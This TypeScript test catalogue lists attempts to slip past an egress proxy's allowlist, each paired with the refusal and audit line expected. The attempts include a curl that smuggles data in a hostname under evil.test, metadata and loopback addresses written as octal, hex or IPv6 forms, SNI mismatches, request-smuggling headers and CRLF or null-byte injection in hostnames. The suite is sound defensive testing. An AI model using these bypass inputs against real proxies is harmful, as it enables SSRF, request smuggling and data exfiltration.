/** Rows 9 to 49 and 78, 79: what is asked of the proxy. Its policy allows `web.example` and the names below `wild.example`. */
import type { Attempt, Client, Facts } from './catalogue.ts'

const allowed = (target: string): string => `connect allowed_host ${target}`

/** CONNECT with a target as it is to stand on the wire. */
const line = (
  row: number,
  what: string,
  reason: string,
  targets: readonly string[],
  recorded: readonly string[] = targets,
): Attempt => ({
  row,
  what,
  client: 'python raw',
  run: {
    py: `",".join(sorted({raw(connect(target)) for target in ${JSON.stringify(targets)}}))`,
  },
  seen: new RegExp(`^(40[03]( ${reason})?,?)+$`),
  audit: recorded.map((target) => `connect ${reason} ${target}`),
})

/** The parser of the runtime refuses these before there is a target to weigh. */
const unparsed = (row: number, what: string, targets: readonly string[]): Attempt => ({
  ...line(row, what, 'bad_request', targets),
  audit: [`${targets.length}x http bad_request -`],
})

const inside = (
  row: number,
  what: string,
  py: string,
  reason: string,
  more: Partial<Attempt> = {},
): Attempt => ({
  row,
  what,
  client: 'python raw',
  run: { py },
  seen: /^200, then (alert 49|reset|closed)$/,
  audit: [`connect ${reason} web.example:443`],
  ...more,
})

const plain = (
  row: number,
  what: string,
  py: string,
  seen: RegExp,
  audit: readonly string[],
  client: Client = 'python raw',
): Attempt => ({ row, what, client, run: { py }, seen, audit })

export function proxyAttempts({ nonce }: Facts): readonly Attempt[] {
  const path = (row: number): string => `/${row}-${nonce}`
  return [
    {
      row: 9,
      what: 'CONNECT with data in the name',
      client: 'curl',
      run: { sh: `curl -sS https://data.${nonce}.evil.test/` },
      seen: /403/,
      audit: [`connect not_allowed_host data.${nonce}.evil.test:443`],
    },
    {
      row: 9,
      what: 'a request with data in the name',
      client: 'python requests',
      run: { py: `requests_get("http://plain.${nonce}.evil.test/")` },
      seen: /403 not_allowed_host/,
      audit: [`http not_allowed_host plain.${nonce}.evil.test:80`],
    },
    ...['meta', 'loop', 'bridge', 'lan', 'shared', 'mixed', 'mapped', 'nat64', 'six', 'unique'].map(
      (name): Attempt => ({
        row: name === 'meta' ? 15 : 16,
        what:
          {
            meta: 'an allowed name for 169.254.169.254',
            loop: 'loopback',
            bridge: "the engine's bridge",
            lan: 'a private address',
            shared: 'a carrier’s address',
            mixed: 'one address of two',
            mapped: 'IPv4-mapped',
            nat64: 'NAT64',
            six: '6to4',
            unique: 'metadata in IPv6',
          }[name] ?? name,
        client: 'curl',
        run: {
          sh: `curl -sS -o /dev/null http://${name}.example/ -w "%{http_code} " ; curl -sS https://${name}.example/`,
        },
        seen: /403 .*403/s,
        audit: [
          `http address_not_public ${name}.example:80`,
          `connect address_not_public ${name}.example:443`,
        ],
        in: 'strict',
      }),
    ),
    {
      row: 17,
      what: 'the second answer leads inside: the first is dialed, and no second is asked for',
      client: 'curl',
      run: { sh: `curl -sSk https://flip.example${path(17)}` },
      seen: /this is the outside/,
      audit: [allowed('flip.example:443')],
      reaches: [`https flip.example ${path(17)}`],
      as: 'root',
    },
    line(20, 'CONNECT', 'ip_literal', [
      '[::ffff:127.0.0.1]:443',
      '[64:ff9b::7f00:1]:443',
      '[2002:7f00:1::]:443',
      '[::127.0.0.1]:443',
    ]),
    line(21, 'CONNECT', 'ip_literal', [
      '0177.0.0.1:443',
      '0x7f.1:443',
      '2130706433:443',
      '127.1:443',
      '0:443',
    ]),
    plain(21, 'absolute form', 'raw(get("http://0x7f000001/"))', /^403 ip_literal$/, [
      'http ip_literal 0x7f000001',
    ]),
    {
      row: 26,
      what: 'the name of another host',
      client: 'openssl',
      run: {
        sh: 'openssl s_client -proxy 127.0.0.1:3128 -connect web.example:443 -servername evil.example </dev/null 2>&1 | grep -i alert',
      },
      seen: /access denied|alert number 49/,
      audit: ['connect sni_mismatch web.example:443'],
    },
    inside(
      26,
      'the name of a subdomain',
      'tunnel("web.example:443", hello("a.web.example"))',
      'sni_mismatch',
    ),
    {
      row: 27,
      what: 'no name',
      client: 'openssl',
      run: {
        sh: 'openssl s_client -proxy 127.0.0.1:3128 -connect web.example:443 -noservername </dev/null 2>&1 | grep -i alert',
      },
      seen: /access denied|alert number 49/,
      audit: ['connect sni_missing web.example:443'],
    },
    inside(27, 'an SSH banner', 'tunnel("web.example:443", b"SSH-2.0-x\\r\\n")', 'not_tls'),
    inside(27, 'plain HTTP', 'tunnel("web.example:443", b"GET / HTTP/1.1\\r\\n\\r\\n")', 'not_tls'),
    inside(
      28,
      'its extension',
      'tunnel("web.example:443", made_hello("web.example", (0xfe0d, b"x" * 40)))',
      'ech_present',
    ),
    inside(
      28,
      'its draft',
      'tunnel("web.example:443", made_hello("web.example", (0xffce, b"x" * 40)))',
      'ech_present',
    ),
    inside(
      29,
      'another name, byte by byte',
      'tunnel("web.example:443", hello("evil.example"), piece=1)',
      'sni_mismatch',
    ),
    inside(
      29,
      'another name, in records of 16 bytes',
      'tunnel("web.example:443", in_records(hello("evil.example"), 16))',
      'sni_mismatch',
    ),
    {
      ...inside(
        29,
        'the right name in pieces and records gets through',
        `https("web.example:443", "${path(29)}", piece=7, records=100)`,
        'allowed_host',
      ),
      seen: /^200, then 200$/,
      reaches: [`https web.example ${path(29)}`],
    },
    inside(
      30,
      'five bytes, then nothing',
      'tunnel("web.example:443", b"\\x16\\x03\\x01\\x02\\x00", wait=9)',
      'hello_timeout',
      { slow: true },
    ),
    inside(30, 'not a byte', 'tunnel("web.example:443", b"", wait=9)', 'hello_timeout', {
      slow: true,
    }),
    inside(
      30,
      '20 KB',
      'tunnel("web.example:443", b"\\x16\\x03\\x01\\x40\\x00\\x01\\x00\\xff\\xff" + b"x" * 20000)',
      'not_tls',
    ),
    {
      ...inside(
        31,
        'allowed: the path and Host within TLS are not seen',
        `https("web.example:443", "${path(31)}", host="other.example")`,
        'allowed_host',
      ),
      seen: /^200, then 200$/,
      reaches: [`https other.example ${path(31)}`],
    },
    plain(
      33,
      'another host',
      'raw(get("http://web.example/", "Host: evil.example"))',
      /^421 host_mismatch$/,
      ['http host_mismatch web.example:80'],
    ),
    plain(
      33,
      'another port',
      'raw(get("http://web.example/", "Host: web.example:443"))',
      /^421 host_mismatch$/,
      ['http host_mismatch web.example:80'],
    ),
    plain(
      34,
      'another host',
      'raw(connect("web.example:443", "Host: evil.example:443"))',
      /^421 host_mismatch$/,
      ['connect host_mismatch web.example:443'],
    ),
    plain(
      35,
      'in a request',
      'raw(get("http://web.example/", "Host: web.example", "Host: evil.example"))',
      /^400 bad_request$/,
      ['http bad_request web.example:80'],
    ),
    plain(
      35,
      'in a CONNECT',
      'raw(connect("web.example:443", "Host: web.example:443", "Host: evil.example:443"))',
      /^400 bad_request$/,
      ['connect bad_request web.example:443'],
    ),
    plain(
      36,
      'no Host in HTTP/1.1',
      'raw(get("http://web.example/", "Accept: x"))',
      /^400 bad_request$/,
      ['http bad_request web.example:80'],
    ),
    plain(
      36,
      '`Expect: x`',
      'raw(get("http://web.example/", "Host: web.example", "Expect: x"))',
      /^400 bad_request$/,
      ['http bad_request web.example:80'],
    ),
    ...(
      [
        [
          'both framings',
          '"Content-Length: 5", "Transfer-Encoding: chunked", method="POST", body="0\\r\\n\\r\\n"',
          '-',
        ],
        [
          'two lengths',
          '"Content-Length: 5", "Content-Length: 6", method="POST", body="hello"',
          '-',
        ],
        [
          'two codings',
          '"Transfer-Encoding: chunked", "Transfer-Encoding: identity", method="POST"',
          '-',
        ],
        ['`chunked, identity`', '"Transfer-Encoding: chunked, identity", method="POST"', '-'],
        ['a space before the colon', '"Transfer-Encoding : chunked", method="POST"', '-'],
        ['a bare line feed', '"X: a\\nHost: evil.example"', '-'],
        ['a folded line', '"X: a", " b"', '-'],
      ] as const
    ).map(([what, rest, target]) =>
      plain(
        37,
        what,
        `raw(get("http://web.example/", "Host: web.example", ${rest}))`,
        /^400 bad_request/,
        [`http bad_request ${target}`],
      ),
    ),
    {
      ...plain(
        39,
        'pipelined, to another host',
        `raw(get("http://web.example${path(39)}") + get("http://evil.example/"))`,
        /^200; 403 not_allowed_host$/,
        ['http allowed_host web.example:80', 'http not_allowed_host evil.example:80'],
      ),
      reaches: [`http web.example ${path(39)}`],
    },
    plain(
      40,
      'another name in the same segment',
      'raw(connect("web.example:443").encode() + hello("evil.example"))',
      /^200$/,
      ['connect sni_mismatch web.example:443'],
    ),
    plain(
      40,
      'a body',
      'raw(connect("web.example:443", "Host: web.example:443", "Content-Length: 5") + "hello")',
      /^200$/,
      ['connect not_tls web.example:443'],
    ),
    plain(
      41,
      'WebSocket',
      'raw(get("http://web.example/", "Host: web.example", "Connection: Upgrade", "Upgrade: websocket"))',
      /^403 upgrade_denied$/,
      ['http upgrade_denied web.example:80'],
    ),
    plain(
      41,
      'h2c',
      'raw(get("http://web.example/", "Host: web.example", "Connection: Upgrade, HTTP2-Settings", "Upgrade: h2c", "HTTP2-Settings: AAMAAABkAAQAAP__"))',
      /^403 upgrade_denied$/,
      ['http upgrade_denied web.example:80'],
    ),
    plain(
      43,
      'SOCKS 4 and 5',
      'raw(b"\\x05\\x01\\x00") + "," + raw(b"\\x04\\x01\\x01\\xbb\\xc6\\x33\\x64\\x07\\x00")',
      /^400 bad_protocol,400 bad_protocol$/,
      ['2x http bad_protocol -'],
    ),
    {
      row: 43,
      what: 'a SOCKS client',
      client: 'curl',
      run: { sh: 'curl -sS --max-time 10 --socks5-hostname 127.0.0.1:3128 https://evil.example/' },
      seen: /exit [1-9]/,
      audit: ['http bad_protocol -'],
    },
    plain(43, 'a ClientHello', 'raw(hello("web.example"))', /^400 bad_protocol$/, [
      'http bad_protocol -',
    ]),
    plain(
      43,
      'the preface of HTTP/2',
      'raw("PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n")',
      /^400 bad_protocol$/,
      ['http bad_protocol -'],
    ),
    line(44, 'CONNECT', 'port_not_allowed', [
      ...['22', '25', '8443', '0', '65536', ''].map((port) => `web.example:${port}`),
    ]),
    line(45, 'CONNECT', 'not_allowed_host', [
      'evilweb.example:443',
      'web.example.evil.test:443',
      'wild.example:443',
      'evilwild.example:443',
    ]),
    line(45, 'an empty label', 'bad_authority', ['web.example..:443', '.web.example:443']),
    {
      ...inside(
        46,
        'made canonical, and allowed',
        `https("WEB.EXAMPLE.:443", "${path(46)}")`,
        'allowed_host',
      ),
      seen: /^200, then 200$/,
      reaches: [`https web.example ${path(46)}`],
    },
    line(47, 'punycode of another name', 'not_allowed_host', ['xn--wb-fka.example:443']),
    unparsed(47, 'full width, soft hyphen, zero width space, ideographic dot, tab', [
      '\uff57eb.example:443',
      'web\u00ad.example:443',
      'web\u200b.example:443',
      'web\u3002example:443',
      'web.example\t:443',
    ]),
    line(48, 'CONNECT', 'bad_authority', [
      'u@web.example:443',
      'web.example:443@evil.test',
      'web%2eexample:443',
      'web.example%00.evil.test:443',
      'web.example%0d%0a:443',
    ]),
    unparsed(48, 'a backslash, a fragment', ['web.example\\.evil.test:443', 'web.example#:443']),
    plain(
      48,
      'absolute form',
      'raw(get("http://web.example@evil.test/", "Host: evil.test"))',
      /^400 bad_authority$/,
      ['http bad_authority web.example@evil.test'],
    ),
    line(49, 'CONNECT', 'bad_authority', ['[::ffff:198.51.100.7%x.web.example]:443']),
    {
      row: 50,
      what: 'an allowed host sends the client elsewhere',
      client: 'curl',
      run: {
        sh: `curl -sSL -o /dev/null -w "%{http_code}" http://web.example/redirect${path(50)}`,
      },
      seen: /403/,
      audit: ['http allowed_host web.example:80', 'http not_allowed_host evil.example:80'],
      reaches: [`http web.example /redirect${path(50)}`],
    },
    {
      row: 78,
      what: 'the resolver never answers',
      client: 'curl',
      run: { sh: 'curl -sS --max-time 20 https://hang.example/' },
      seen: /502/,
      audit: ['connect dns_failed hang.example:443'],
      slow: true,
    },
    {
      row: 78,
      what: 'the host never answers',
      client: 'python requests',
      run: { py: 'requests_get("http://hole.example/")' },
      seen: /504 upstream_timeout/,
      audit: ['http upstream_timeout hole.example:80'],
      slow: true,
    },
    ...['TRACE', 'QUERY', 'PROPFIND'].map((method) =>
      plain(
        79,
        method,
        `raw(get("http://web.example/", method="${method}"))`,
        /^403 method_denied$/,
        ['http method_denied web.example:80'],
      ),
    ),
    plain(
      79,
      '`OPTIONS *`',
      'raw(get("*", "Host: web.example", method="OPTIONS"))',
      /^400 bad_request$/,
      ['http bad_request *'],
    ),
    plain(
      79,
      'a method of no standard',
      'raw(get("http://web.example/", method="LEAK"))',
      /^400 bad_protocol$/,
      ['http bad_protocol -'],
    ),
  ]
}
